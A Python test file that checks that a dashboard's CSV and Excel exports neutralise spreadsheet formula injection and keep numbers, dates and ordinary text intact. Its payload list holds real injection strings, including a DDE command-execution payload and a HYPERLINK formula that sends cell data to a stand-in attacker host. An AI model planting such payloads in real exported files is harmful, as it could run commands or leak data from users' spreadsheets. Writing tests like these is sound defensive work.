"""CSV and Excel downloads cannot carry a formula; numbers, dates and ordinary text come through unchanged."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import numpy as np
import openpyxl
import pandas as pd
import pytest

from dashboards import export
from dashboards.export import to_csv_bytes, to_excel_bytes

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "-2+3",
    "+1+1",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1,1)",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
]


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "note": PAYLOADS,
            "n": [-1.5] * len(PAYLOADS),
            "count": np.arange(-5, -5 + len(PAYLOADS)),
        }
    )


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _sheet(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).active


def test_csv_prefixes_every_formula_trigger():
    rows = _csv_rows(to_csv_bytes(_frame()))
    assert rows[0] == ["note", "n", "count"]
    notes = [r[0] for r in rows[1:]]
    assert notes == ["'" + p for p in PAYLOADS]


def test_csv_keeps_negative_numbers_as_numbers():
    rows = _csv_rows(to_csv_bytes(_frame()))
    assert {r[1] for r in rows[1:]} == {"-1.5"}
    assert [r[2] for r in rows[1:3]] == ["-5", "-4"]


def test_excel_stores_payloads_as_text_and_numbers_as_numbers():
    ws = _sheet(to_excel_bytes(_frame()))
    assert [c.value for c in ws[1]] == ["note", "n", "count"]
    for row, payload in zip(ws.iter_rows(min_row=2), PAYLOADS, strict=True):
        note, n, count = row
        assert note.data_type == "s"
        assert note.value == "'" + payload
        assert n.data_type == "n" and n.value == -1.5
        assert count.data_type == "n" and isinstance(count.value, int)
    assert [ws.cell(row=i, column=3).value for i in range(2, 5)] == [-5, -4, -3]
    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_headers_are_neutralized_too():
    df = pd.DataFrame({"=1+1": ["a"], "ok": [1]})
    assert _csv_rows(to_csv_bytes(df))[0] == ["'=1+1", "ok"]
    ws = _sheet(to_excel_bytes(df))
    assert ws["A1"].value == "'=1+1" and ws["A1"].data_type == "s"


def test_ordinary_text_and_chinese_pass_through():
    df = pd.DataFrame({"name": ["沟通能力", "Sales - EMEA", "a=b", "<5", "'quoted"]})
    rows = _csv_rows(to_csv_bytes(df))
    assert [r[0] for r in rows[1:]] == ["沟通能力", "Sales - EMEA", "a=b", "<5", "'quoted"]
    ws = _sheet(to_excel_bytes(df))
    assert [ws.cell(row=i, column=1).value for i in range(2, 7)] == ["沟通能力", "Sales - EMEA", "a=b", "<5", "'quoted"]


def test_mixed_object_column_leaves_real_numbers_alone():
    df = pd.DataFrame({"v": [-3, "-3", 2.5, None, "=x"]}, dtype=object)
    rows = _csv_rows(to_csv_bytes(df))
    assert [r[0] for r in rows[1:]] == ["-3", "'-3", "2.5", "", "'=x"]
    ws = _sheet(to_excel_bytes(df))
    values = [ws.cell(row=i, column=1).value for i in range(2, 7)]
    assert values == [-3, "'-3", 2.5, None, "'=x"]


def test_string_and_category_dtypes_are_neutralized():
    df = pd.DataFrame(
        {
            "s": pd.Series(["=1", "ok"], dtype="string"),
            "c": pd.Series(["@x", "ok"], dtype="category"),
        }
    )
    rows = _csv_rows(to_csv_bytes(df))
    assert rows[1] == ["'=1", "'@x"]
    ws = _sheet(to_excel_bytes(df))
    assert (ws["A2"].value, ws["B2"].value) == ("'=1", "'@x")


def test_excel_handles_missing_values_dates_booleans_and_control_characters():
    df = pd.DataFrame(
        {
            "x": [float("nan"), float("inf")],
            "when": [pd.Timestamp("2025-03-10 09:30", tz="UTC"), pd.NaT],
            "day": [date(2025, 3, 10), None],
            "flag": [True, False],
            "text": ["bell\x07=1", "\x00=2"],
        }
    )
    ws = _sheet(to_excel_bytes(df))
    assert ws["A2"].value is None and ws["A3"].value is None
    assert ws["B2"].value == datetime(2025, 3, 10, 9, 30)
    assert ws["B3"].value is None
    assert ws["C2"].value == datetime(2025, 3, 10)
    assert ws["D2"].value is True and ws["D3"].value is False
    assert ws["E2"].value == "bell=1"
    assert ws["E3"].value == "'=2"


def test_aware_datetimes_are_written_in_utc():
    when = datetime(2025, 3, 10, 17, 30).astimezone(UTC)
    df = pd.DataFrame({"when": pd.Series([when.astimezone()], dtype=object)})
    assert _sheet(to_excel_bytes(df))["A2"].value == when.replace(tzinfo=None)


def test_the_callers_frame_is_not_changed():
    df = _frame()
    before = df.copy()
    to_csv_bytes(df)
    to_excel_bytes(df)
    pd.testing.assert_frame_equal(df, before)


def test_empty_frame_exports():
    df = pd.DataFrame({"a": pd.Series([], dtype=object)})
    assert _csv_rows(to_csv_bytes(df)) == [["a"]]
    assert _sheet(to_excel_bytes(df)).max_row == 1


def test_too_many_rows_for_excel(monkeypatch):
    monkeypatch.setattr(export, "EXCEL_MAX_ROWS", 2)
    with pytest.raises(ValueError, match="download CSV"):
        to_excel_bytes(pd.DataFrame({"a": [1, 2, 3]}))
